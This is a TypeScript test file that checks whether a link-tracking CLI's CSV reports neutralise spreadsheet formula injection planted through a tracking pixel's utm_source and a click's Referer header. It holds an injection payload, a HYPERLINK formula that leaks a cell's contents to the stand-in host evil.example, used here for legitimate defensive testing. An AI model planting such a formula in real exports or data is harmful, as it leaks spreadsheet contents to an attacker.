import { afterAll, beforeAll, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { runCli } from '../support/run-cli.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { describeEachBackend } from '../support/services.js';
import { PHONE_UA } from '../support/http.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** No cell that a spreadsheet reads as a formula: none starts with = + - @ tab or CR. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

// CLI runs use the build in dist/ (npx tsc -p tsconfig.build.json).
describeEachBackend('CSV written by the CLI is safe to open in a spreadsheet', (backend) => {
  let t: TestServer;
  let code: string;
  beforeAll(async () => {
    if (backend.skipReason) return;
    t = await startTestServer(backend);
    const link = await t.call('POST', '/api/links', {
      channel: 'web',
      target: { url: 'https://shop.example/' },
    });
    code = link.json().code;
    // Anyone can plant these: the anonymous pixel's utm_source and a click's Referer header.
    const visit = await t.call(
      'POST',
      '/api/track/visit',
      { url: 'https://shop.example/', utm_source: FORMULA },
      { key: null },
    );
    expect(visit.statusCode).toBe(204);
    const click = await t.server.app.inject({
      method: 'GET',
      url: `/${code}`,
      headers: { 'user-agent': PHONE_UA, referer: 'http://=1+2/' },
    });
    expect(click.statusCode).toBe(302);
  });
  afterAll(async () => t?.close());

  it('neutralises a planted utm_source in `report funnel --group-by source --csv`', async () => {
    const run = await runCli(
      ['report', 'funnel', '--group-by', 'source', '--from', '2026-11-01', '--to', '2026-11-30', '--csv'],
      { env: t.env },
    );
    expect(run.code, run.stderr).toBe(0);
    const rows = parse(run.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.key)).toContain(`'${FORMULA}`);
    expect(formulaCells(run.stdout)).toEqual([]);
  });

  it('neutralises a planted Referer host in `report clicks --csv`', async () => {
    const run = await runCli(['report', 'clicks', '--link', code, '--csv'], { env: t.env });
    expect(run.code, run.stderr).toBe(0);
    const rows = parse(run.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.referrer_host)).toEqual(["'=1+2"]);
    expect(formulaCells(run.stdout)).toEqual([]);
  });
});
